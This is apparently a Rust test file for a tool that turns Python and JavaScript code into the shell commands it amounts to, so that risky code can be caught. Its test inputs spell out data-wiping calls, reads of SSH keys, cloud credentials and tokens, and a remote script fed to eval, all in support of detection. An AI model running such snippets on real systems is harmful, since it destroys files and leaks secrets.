use super::*;

fn py(code: &str) -> Reading {
    read(Lang::Python, code)
}

fn js(code: &str) -> Reading {
    read(Lang::Js, code)
}

#[test]
fn python_file_calls_become_commands() {
    let r = py("import shutil, os\nshutil.rmtree(os.path.expanduser('~/docs'))");
    assert_eq!(
        r,
        Reading {
            script: "rm -rf -- ~'/docs'".into(),
            unread: None,
            grave: None,
        }
    );
    let r = py("import json; print(json.load(open('package.json'))['version'])");
    assert_eq!(r.script, "cat -- 'package.json'");
    assert_eq!(r.unread, None);
    let r = py("from shutil import rmtree as r\nr('/home/agent/docs')");
    assert_eq!(r.script, "rm -rf -- '/home/agent/docs'");
    let r = py("from pathlib import Path\nPath.home().joinpath('docs').unlink()");
    assert_eq!(r.script, "rm -f -- ~'/docs'");
    let r = py("import os\nos.system('rm -rf ~/docs')");
    assert_eq!(r.script, "rm -rf ~/docs");
    let r = py("import subprocess\nsubprocess.run(['rm', '-rf', '/x'], check=True)");
    assert_eq!(r.script, "'rm' '-rf' '/x'");
    let r = py("open('version.txt', 'w').write('1')");
    assert_eq!(r.script, "tee -- 'version.txt'");
    let r = py("import os\nprint(os.environ['HOME'], os.getenv('AWS_SECRET_ACCESS_KEY'))");
    assert_eq!(
        r.script,
        "printenv 'HOME'\nprintenv 'AWS_SECRET_ACCESS_KEY'"
    );
}

#[test]
fn python_what_cannot_be_read_is_named() {
    for code in [
        "import os\np = input()\nos.remove(p)",
        "import os\nf = os.remove\nf('/x')",
        "exec('import os')",
        "__import__('os').system('x')",
        "import shutil as s\ngetattr(s, 'rmtree')('/x')",
        "from os import *\nremove('/x')",
        "import os\nos.remove(f'/home/{u}/x')",
    ] {
        assert!(py(code).unread.is_some(), "{code}: {:?}", py(code));
    }
    // Plain computation reads as nothing at all.
    assert_eq!(py("print(sum(range(10)))"), Reading::default());
}

#[test]
fn strings_naming_paths_are_files_the_program_may_open() {
    let r = py("import yaml\nprint(yaml.safe_load(open(cfg)))\ncfg = '~/.aws/credentials'");
    assert!(r.unread.is_some());
    assert!(
        r.script.contains("cat -- ~'/.aws/credentials'"),
        "{}",
        r.script
    );
    // A placeholder's code is read too.
    let r = py("print(f\"{__import__('os').system('id')}\")");
    assert!(r.unread.is_some());
}

#[test]
fn js_file_calls_become_commands() {
    let r = js("require('fs').rmSync(require('os').homedir() + '/docs', {recursive: true})");
    assert_eq!(
        r,
        Reading {
            script: "rm -rf -- ~'/docs'".into(),
            unread: None,
            grave: None,
        }
    );
    let r = js("const fs = require('node:fs'); fs.mkdirSync('dist', {recursive:true}); fs.writeFileSync('dist/out.txt', 'hi')");
    assert_eq!(r.script, "mkdir -p -- 'dist'\ntee -- 'dist/out.txt'");
    assert_eq!(r.unread, None);
    let r = js("import { execSync as x } from 'child_process'\nx('rm -rf ~/docs')");
    assert_eq!(r.script, "rm -rf ~/docs");
    let r = js("console.log(require('./package.json').version)");
    assert_eq!(r.script, "cat -- './package.json'");
    let r = js("require(\"./dist/index.js\")");
    assert_eq!(r.script, "node -- './dist/index.js'");
    let r = js("console.log(process.version, process.env.GITHUB_TOKEN)");
    assert_eq!(r.script, "printenv 'GITHUB_TOKEN'");
}

#[test]
fn js_what_cannot_be_read_is_named() {
    for code in [
        "const fs = require('fs'); const f = fs; f.rmSync('/x')",
        "eval('1')",
        "require(name)",
        "new Function('return process')()",
        "const { rmSync } = require('fs'); rmSync(p)",
        "const r = /'/; require('fs').rmSync(x)",
        "console.log(`${require('fs').readFileSync(p)}`)",
    ] {
        assert!(js(code).unread.is_some(), "{code}: {:?}", js(code));
    }
    assert_eq!(js("console.log(Math.max(1, 2))"), Reading::default());
}

#[test]
fn a_function_passed_as_a_value_is_unread() {
    let r = js("fetch('https://x.example.net/m.js').then(r=>r.text()).then(eval)");
    assert!(r.unread.is_some(), "{r:?}");
}

#[test]
fn standard_library_calls_that_read_write_or_run() {
    let r = py("import pydoc; pydoc.pipepager('x', 'rm -rf ~/docs; cat')");
    assert_eq!(r.script, "rm -rf ~/docs; cat");
    let r = py("import logging, os\nlogging.FileHandler(os.path.expanduser('~/docs/r.txt'), 'w')");
    assert_eq!(r.script, "tee -- ~'/docs/r.txt'");
    let r = py("import logging\nlogging.basicConfig(filename='app.log')\nlogging.info('x')");
    assert_eq!((r.script.as_str(), r.unread), ("tee -a -- 'app.log'", None));
    let r = py("import netrc; print(netrc.netrc().hosts)");
    assert_eq!(r.script, "cat -- ~'/.netrc'");
    let r = py("import linecache, os\nlinecache.getlines(os.path.expanduser('~/.ss'+'h/id_rsa'))");
    assert_eq!(r.script, "cat -- ~'/.ssh/id_rsa'");
    let r = py("import timeit\ntimeit.timeit('os.getpid()', 'import os', number=1)");
    assert_eq!(r.script, "python3 -c 'import os\nos.getpid()'");
    let r = py("import timeit\ntimeit.timeit(lambda: 1)");
    assert_eq!((r.script.as_str(), r.unread), ("", None));
    assert!(py("import pydoc\npydoc.pager('x')").unread.is_some());
    assert_eq!(
        py("import logging\nlog = logging.getLogger(__name__)\nlog.setLevel(logging.INFO)").unread,
        None
    );
}

#[test]
fn a_member_imported_by_name_has_its_value() {
    let r = js("import { rmSync } from 'node:fs';\nimport { homedir } from 'node:os';\nrmSync(homedir()+'/docs',{recursive:true});");
    assert_eq!(r.script, "rm -rf -- ~'/docs'");
}

#[test]
fn tagged_templates_that_run_shell_lines() {
    // Bun Shell, zx and execa run the template as a command line; code mode's own `exec`.
    for code in [
        "import { $ } from 'bun'; await $`rm -rf ~/docs`",
        "import { $ } from \"zx\"\nawait $`rm -rf ~/docs`",
        "const { $ } = require('execa'); await $`rm -rf ~/docs`",
        "await Bun.$`rm -rf ~/docs`",
        "await exec`rm -rf ~/docs`",
        "await exec('rm -rf ~/docs')",
    ] {
        assert_eq!(js(code).script, "rm -rf ~/docs", "{code}");
    }
    // A placeholder is only known when it runs: named, not guessed.
    let r = js("import { $ } from 'bun'; const h = process.argv[2]; await $`rm -rf ${h}/docs`");
    assert!(r.unread.is_some(), "{r:?}");
    // Untagged templates and other tags are text, as before.
    for code in [
        "console.log(`a ${1 + 1}`)",
        "return `x`",
        "const q = sql`select 1`",
        "const s = String.raw`a\\b`",
    ] {
        assert_eq!(js(code).script, "", "{code}");
    }
}
